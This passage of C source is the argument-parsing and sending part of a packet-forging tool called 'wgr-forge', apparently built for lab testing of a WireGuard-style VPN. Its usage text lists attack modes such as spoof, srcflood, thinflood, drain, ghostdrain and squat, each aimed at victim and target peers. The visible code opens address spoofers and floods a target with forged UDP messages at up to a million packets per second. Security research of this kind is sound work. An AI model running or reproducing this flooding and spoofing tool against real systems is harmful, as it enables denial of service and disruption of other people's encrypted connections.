		if (secs <= 0 || secs > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3]))) {
			fprintf(stderr, "usage: wgr-forge holdconfirm ADDR PORT SECONDS(1..3600) "
					"PUB_BAIT PUB_TARGET PUB_VICTIM VICTIM_ADDR VICTIM_PORT "
					"TARGET_ADDR TARGET_PORT [PUB_OTHER...(0..8)]\n");
			return 2;
		}
		if (spoofer_open(&from_victim, argv[8], argv[9], argv[2], argv[3]) ||
		    spoofer_open(&from_target, argv[10], argv[11], argv[2], argv[3]))
			return 1;
		return hold(&ss, sslen, secs, argv + 5, NULL, false, &from_victim, &from_target,
			    argv + 12, argc - 12, NULL);
	}
	if (argc >= 2 && !strcmp(argv[1], "squat")) {
		long secs = argc == 10 ? strtol(argv[4], NULL, 10) : 0;

		if (secs <= 0 || secs > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3]))) {
			fprintf(stderr, "usage: wgr-forge squat ADDR PORT SECONDS(1..3600) PUB_BAIT "
					"PUB_TARGET PUB_VICTIM PUB_BAIT2 PUB_TARGET2\n");
			return 2;
		}
		return hold(&ss, sslen, secs, argv + 5, argv + 8, false, NULL, NULL, NULL, 0, NULL);
	}
	if (argc < 6) {
		fprintf(stderr, "usage: wgr-forge MODE ADDR PORT COUNT PPS [PUBKEY]\n"
				"       wgr-forge stage ADDR PORT PUB_BAIT PUB_TARGET PUB_VICTIM\n"
				"       wgr-forge hold|holdself ADDR PORT SECONDS PUB_BAIT PUB_TARGET "
				"PUB_VICTIM\n"
				"       wgr-forge holdconfirm ADDR PORT SECONDS PUB_BAIT PUB_TARGET "
				"PUB_VICTIM VICTIM_ADDR VICTIM_PORT TARGET_ADDR TARGET_PORT "
				"[PUB_OTHER...]\n"
				"       wgr-forge squat ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM "
				"PUB_BAIT2 PUB_TARGET2\n"
				"       wgr-forge mix ADDR PORT SECONDS PPS PUBKEY NPORTS\n"
				"       wgr-forge fill|chain ADDR PORT SECONDS PPS BPORT NPORTS "
				"PUB_TARGET PUB_NAME...\n"
				"       wgr-forge onedata ADDR PORT SPORT INDEX COUNTER [TTL]\n"
				"       wgr-forge spoof SRC_ADDR SRC_PORT ADDR PORT MODE COUNT [PUBKEY [PPS]]\n"
				"       wgr-forge srcflood ADDR PORT SECONDS PPS SPOOF_BASE NADDR NPORTS "
				"PUBKEY\n"
				"       wgr-forge thinflood ADDR PORT SECONDS PPS SPOOF_BASE NPREFIXES "
				"PUBKEY\n"
				"       wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET "
				"PUB_VICTIM [SECONDS]\n"
				"       wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_VICTIM "
				"SECONDS PPS [prove]\n"
				"       wgr-forge ghostdrain ADDR PORT GHOST_ADDR GHOST_PORT SPOOF_ADDR "
				"SPOOF_PORT PUB_TARGET PUB_GHOST SECONDS PPS\n"
				"       wgr-forge respdrain ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_X "
				"PUB_LAPTOP L_ADDR L_PORT PPS\n"
				"       wgr-forge mac2junk|mac2for ADDR PORT SECONDS PPS NPORTS PUBKEY [FROM [NPREFIXES]]\n"
				"       wgr-forge cookieprobe ADDR PORT PUBKEY [SRCPORT]\n");
		return 2;
	}
	if (!strcmp(argv[1], "stage")) {
		if (argc != 7 || inet_pton(AF_INET, argv[2], &sin->sin_addr) != 1) {
			fprintf(stderr, "wgr-forge: stage IPV4ADDR PORT PUB_BAIT PUB_TARGET PUB_VICTIM\n");
			return 2;
		}
		sin->sin_family = AF_INET;
		sin->sin_port = htons((uint16_t)atoi(argv[3]));
		return stage(&ss, sizeof(*sin), argv + 4);
	}
	count = strtol(argv[4], NULL, 10);
	pps = strtol(argv[5], NULL, 10);
	if (count <= 0 || count > 10000000 || pps <= 0 || pps > 1000000) {
		fprintf(stderr, "wgr-forge: COUNT must be 1..10000000 and PPS 1..1000000\n");
		return 2;
	}
	if (!strcmp(argv[1], "initiation") || !strcmp(argv[1], "response")) {
		npubs = argc - 6;
		if (npubs < 1 || npubs > 1024 || !parse_keys(pubs, argv + 6, (int)npubs)) {
			fprintf(stderr, "wgr-forge: %s needs 1..1024 base64 PUBKEYs\n", argv[1]);
			return 2;
		}
		memcpy(pub, pubs[0], sizeof(pub));
	}
	if (!make(argv[1], msg, pub) && strcmp(argv[1], "garbage")) {
		fprintf(stderr, "wgr-forge: unknown mode '%s'\n", argv[1]);
		return 2;
	}
	if (inet_pton(AF_INET, argv[2], &sin->sin_addr) == 1) {
		sin->sin_family = AF_INET;
		sin->sin_port = htons((uint16_t)atoi(argv[3]));
		sslen = sizeof(*sin);
	} else if (inet_pton(AF_INET6, argv[2], &sin6->sin6_addr) == 1) {
		sin6->sin6_family = AF_INET6;
		sin6->sin6_port = htons((uint16_t)atoi(argv[3]));
		sslen = sizeof(*sin6);
	} else {
		fprintf(stderr, "wgr-forge: bad address '%s'\n", argv[2]);
		return 2;
	}
	fd = socket(ss.ss_family, SOCK_DGRAM, 0);
	if (fd < 0) {
		perror("socket");
		return 1;
	}
	for (long i = 0; i < count; i++) {
		size_t len = make(argv[1], msg, npubs ? pubs[i % npubs] : pub);

		/* Losses to a full queue are fine; anything else is a broken lab. */
		if (sendto(fd, msg, len, 0, (struct sockaddr *)&ss, sslen) < 0 &&
		    errno != ENOBUFS && errno != EAGAIN && errno != ECONNREFUSED) {
			perror("sendto");
			return 1;
		}
		if ((i + 1) % (pps / 100 + 1) == 0) {
			struct timespec ts = { 0, (long)(1e9 / pps * (pps / 100 + 1)) };

			nanosleep(&ts, NULL);
		}
	}
	close(fd);
	return 0;
}
